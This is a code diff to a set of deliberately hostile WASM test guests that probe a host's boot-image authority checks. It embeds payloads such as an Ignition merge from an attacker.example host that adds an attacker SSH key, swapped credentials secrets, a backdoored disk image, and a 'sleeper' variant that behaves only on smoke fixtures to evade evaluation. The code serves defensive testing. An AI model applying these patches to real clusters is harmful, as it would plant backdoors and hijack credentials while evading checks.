@@ -1,13 +1,21 @@
-//! Boot image guests that overstep on purpose. Each build (one feature, see
-//! Cargo.toml) takes the decision an honest guest would take — the stream's
-//! image for the MachineSet's architecture and region — and changes it in
-//! one way the host must refuse. The host's authority checks
+//! Boot image guests that overstep on purpose. Each variant takes the
+//! decision an honest guest would take — the stream's image for the
+//! MachineSet's architecture and region — and changes it in one way the
+//! host must refuse. The host's authority checks
 //! (`host/src/bootimage/authority.rs`) are what stop them; this crate only
 //! needs the real WIT and the stream model.
+//!
+//! One build serves every variant: the variant's name sits in [`VARIANT`],
+//! and `guests/build.sh --test` writes each `hostile-<variant>.wasm` by
+//! overwriting those bytes in the one built component (same length, so the
+//! component stays valid). Eleven LTO builds of ~30 s were most of the test
+//! guests' build time.
 
-// Each feature uses a different part, so most helpers are unused in any one build.
+/// `mco-hostile-variant:` and the variant's name, padded with `_`.
 #[cfg(target_arch = "wasm32")]
-#[allow(dead_code, unused_variables, unused_mut)]
+static VARIANT: [u8; 48] = *b"mco-hostile-variant:____________________________";
+
+#[cfg(target_arch = "wasm32")]
 mod hostile {
     use base64::Engine as _;
     use exports::mco::machine_config::boot_image as wit;
@@ -15,6 +23,64 @@ mod hostile {
     use mco_bootimage::{MachineSetView, Stream, arch, load_stream};
 
     wit_bindgen::generate!({ world: "boot-image-selector", path: "../../wit" });
+
+    /// The ways a variant oversteps (the names `guests/build.sh` writes).
+    #[derive(Clone, Copy, PartialEq, Eq)]
+    enum Variant {
+        /// AWS: changes instanceType and credentialsSecret besides the AMI.
+        InstanceType,
+        /// AWS: as InstanceType, but honest on the host's smoke fixture, so
+        /// that it passes the smoke evaluations and serves.
+        Sleeper,
+        /// AWS: points userDataSecret.name at another Secret.
+        RepointUserData,
+        /// AWS: "upgrades" aws-cloud-credentials, a Secret the MachineSet
+        /// does not reference.
+        ForeignSecret,
+        /// AWS: an upgraded stub whose merge source is another host and
+        /// that adds an SSH key.
+        ForeignMerge,
+        /// AWS: a stub upgrade although the host passed no user data.
+        StubWithoutUserData,
+        /// AWS: an AMI in neither the stream nor the known images.
+        UnknownAmi,
+        /// AWS: a merge patch that is valid JSON but not an object.
+        NotAnObject,
+        /// GCP: also changes a data disk's image.
+        GcpDataDisk,
+        /// GCP: reverses the order of the disks.
+        GcpReorder,
+        /// Azure: changes vmSize outside the image block.
+        AzureOutsideImage,
+    }
+
+    impl Variant {
+        /// The variant this module was written as.
+        fn current() -> Result<Variant, String> {
+            // Read through a volatile load: the bytes are replaced after the
+            // build, so the optimizer must not fold them into constants.
+            let bytes: [u8; 48] = unsafe { core::ptr::read_volatile(&super::VARIANT) };
+            let text = std::str::from_utf8(&bytes).map_err(|e| e.to_string())?;
+            let name = text
+                .strip_prefix("mco-hostile-variant:")
+                .ok_or("no variant marker")?
+                .trim_end_matches('_');
+            Ok(match name {
+                "instance-type" => Variant::InstanceType,
+                "sleeper" => Variant::Sleeper,
+                "repoint-user-data" => Variant::RepointUserData,
+                "foreign-secret" => Variant::ForeignSecret,
+                "foreign-merge" => Variant::ForeignMerge,
+                "stub-without-user-data" => Variant::StubWithoutUserData,
+                "unknown-ami" => Variant::UnknownAmi,
+                "not-an-object" => Variant::NotAnObject,
+                "gcp-data-disk" => Variant::GcpDataDisk,
+                "gcp-reorder" => Variant::GcpReorder,
+                "azure-outside-image" => Variant::AzureOutsideImage,
+                other => return Err(format!("unknown variant {other:?}")),
+            })
+        }
+    }
 
     struct Hostile;
 
@@ -51,6 +117,7 @@ mod hostile {
         cluster: wit::Cluster,
         user_data: Option<String>,
     ) -> Result<wit::Decision, String> {
+        let variant = Variant::current()?;
         let stream = stream.as_ref().map_err(Clone::clone)?;
         let spec: Value = serde_json::from_str(ms.provider_spec.as_deref().unwrap_or("{}"))
             .map_err(|e| e.to_string())?;
@@ -72,17 +139,19 @@ mod hostile {
             .flatten()
             .unwrap_or("worker-user-data")
             .to_owned();
-        let (target, mut fragment) = honest(stream, &arch, &spec)?;
+        let (target, mut fragment) = honest(variant, stream, &arch, &spec)?;
         let mut upgrade = None;
         // `sleeper` behaves on the host's smoke fixture (`smoke-*`) and
         // oversteps everywhere else: smoke evaluations cannot catch it,
         // only the checks on every decision can.
-        if !(cfg!(feature = "sleeper") && ms.name.starts_with("smoke-")) {
-            tamper(&mut fragment, &mut upgrade, &secret, user_data.as_deref());
+        if !(variant == Variant::Sleeper && ms.name.starts_with("smoke-")) {
+            upgrade = tamper(variant, &mut fragment, &secret, user_data.as_deref());
         }
-        let patch = json!({"spec": {"template": {"spec": {"providerSpec": {"value": fragment}}}}});
-        #[cfg(feature = "not-an-object")]
-        let patch = json!([{"op": "replace", "path": "/spec/template/spec/providerSpec/value/ami/id", "value": target}]);
+        let patch = match variant {
+            Variant::NotAnObject => json!([{"op": "replace",
+                "path": "/spec/template/spec/providerSpec/value/ami/id", "value": target}]),
+            _ => json!({"spec": {"template": {"spec": {"providerSpec": {"value": fragment}}}}}),
+        };
         Ok(wit::Decision::Patch(wit::Patch {
             target,
             merge_patch: patch.to_string(),
@@ -92,8 +161,13 @@ mod hostile {
 
     /// The patch an honest guest of the platform this build pretends to be
     /// would propose.
-    fn honest(stream: &Stream, arch: &str, spec: &Value) -> Result<(String, Value), String> {
-        if cfg!(any(feature = "gcp-data-disk", feature = "gcp-reorder")) {
+    fn honest(
+        variant: Variant,
+        stream: &Stream,
+        arch: &str,
+        spec: &Value,
+    ) -> Result<(String, Value), String> {
+        if matches!(variant, Variant::GcpDataDisk | Variant::GcpReorder) {
             let target = stream.gcp_image_path(arch).map_err(|e| e.to_string())?;
             let mut disks = spec.get("disks").cloned().unwrap_or(json!([]));
             for disk in disks.as_array_mut().into_iter().flatten() {
@@ -103,7 +177,7 @@ mod hostile {
             }
             return Ok((target, json!({"disks": disks})));
         }
-        if cfg!(feature = "azure-outside-image") {
+        if variant == Variant::AzureOutsideImage {
             let image = stream
                 .azure_marketplace(arch)
                 .and_then(|m| m.no_purchase_plan.as_ref())
@@ -146,13 +220,14 @@ mod hostile {
         })
     }
 
-    #[allow(unused_variables, unused_mut)]
+    /// Changes the honest `fragment` the way `variant` oversteps; the user
+    /// data upgrade it proposes, if any.
     fn tamper(
+        variant: Variant,
         fragment: &mut Value,
-        upgrade: &mut Option<wit::UserDataUpgrade>,
         secret: &str,
         user_data: Option<&str>,
-    ) {
+    ) -> Option<wit::UserDataUpgrade> {
         // The honest conversion of the stub the host passed, if any.
         let honest = user_data.and_then(|text| match mco_bootimage::ignition::upgrade_stub(text) {
             Ok(mco_bootimage::ignition::StubUpgrade::Converted(v3)) => {
@@ -160,60 +235,58 @@ mod hostile {
             }
             _ => None,
         });
-        let _ = &honest;
-        #[cfg(any(feature = "instance-type", feature = "sleeper"))]
-        {
-            fragment["instanceType"] = json!("m5.metal");
-            fragment["credentialsSecret"] = json!({"name": "attacker-credentials"});
-        }
-        #[cfg(feature = "repoint-user-data")]
-        {
-            fragment["userDataSecret"] = json!({"name": "master-user-data"});
-        }
-        // These two wait for the host's second round, which carries the
-        // stub, as an honest guest does.
-        #[cfg(feature = "foreign-secret")]
-        if user_data.is_some() {
-            *upgrade = upgrade_for(
-                "aws-cloud-credentials",
-                honest.unwrap_or(json!({"ignition": {"version": "3.5.0"}})),
-            );
-        }
-        #[cfg(feature = "foreign-merge")]
-        if user_data.is_some() {
-            *upgrade = upgrade_for(
-                secret,
-                json!({
-                    "ignition": {"version": "3.5.0", "config": {"merge": [{"source": "https://ignition.attacker.example/worker"}]}},
-                    "passwd": {"users": [{"name": "core", "sshAuthorizedKeys": ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileKey attacker"]}]}
-                }),
-            );
-        }
-        #[cfg(feature = "stub-without-user-data")]
-        {
-            *upgrade = upgrade_for(
-                secret,
-                json!({"ignition": {"version": "3.5.0", "config": {"merge": [{"source": "https://api-int.example:22623/config/worker"}]}}}),
-            );
-        }
-        #[cfg(feature = "unknown-ami")]
-        {
-            fragment["ami"]["id"] = json!("ami-0badc0ffee0000000");
-        }
-        #[cfg(feature = "gcp-data-disk")]
-        for disk in fragment["disks"].as_array_mut().into_iter().flatten() {
-            if disk.get("boot").and_then(Value::as_bool) != Some(true) {
-                disk["image"] = json!("projects/attacker/global/images/backdoored-data");
+        match variant {
+            Variant::InstanceType | Variant::Sleeper => {
+                fragment["instanceType"] = json!("m5.metal");
+                fragment["credentialsSecret"] = json!({"name": "attacker-credentials"});
             }
+            Variant::RepointUserData => {
+                fragment["userDataSecret"] = json!({"name": "master-user-data"});
+            }
+            // These two wait for the host's second round, which carries the
+            // stub, as an honest guest does.
+            Variant::ForeignSecret if user_data.is_some() => {
+                return upgrade_for(
+                    "aws-cloud-credentials",
+                    honest.unwrap_or(json!({"ignition": {"version": "3.5.0"}})),
+                );
+            }
+            Variant::ForeignMerge if user_data.is_some() => {
+                return upgrade_for(
+                    secret,
+                    json!({
+                        "ignition": {"version": "3.5.0", "config": {"merge": [{"source": "https://ignition.attacker.example/worker"}]}},
+                        "passwd": {"users": [{"name": "core", "sshAuthorizedKeys": ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileKey attacker"]}]}
+                    }),
+                );
+            }
+            Variant::StubWithoutUserData => {
+                return upgrade_for(
+                    secret,
+                    json!({"ignition": {"version": "3.5.0", "config": {"merge": [{"source": "https://api-int.example:22623/config/worker"}]}}}),
+                );
+            }
+            Variant::UnknownAmi => {
+                fragment["ami"]["id"] = json!("ami-0badc0ffee0000000");
+            }
+            Variant::GcpDataDisk => {
+                for disk in fragment["disks"].as_array_mut().into_iter().flatten() {
+                    if disk.get("boot").and_then(Value::as_bool) != Some(true) {
+                        disk["image"] = json!("projects/attacker/global/images/backdoored-data");
+                    }
+                }
+            }
+            Variant::GcpReorder => {
+                if let Some(disks) = fragment["disks"].as_array_mut() {
+                    disks.reverse();
+                }
+            }
+            Variant::AzureOutsideImage => {
+                fragment["vmSize"] = json!("Standard_D96s_v5");
+            }
+            Variant::ForeignSecret | Variant::ForeignMerge | Variant::NotAnObject => {}
         }
-        #[cfg(feature = "gcp-reorder")]
-        if let Some(disks) = fragment["disks"].as_array_mut() {
-            disks.reverse();
-        }
-        #[cfg(feature = "azure-outside-image")]
-        {
-            fragment["vmSize"] = json!("Standard_D96s_v5");
-        }
+        None
     }
 
     export!(Hostile);
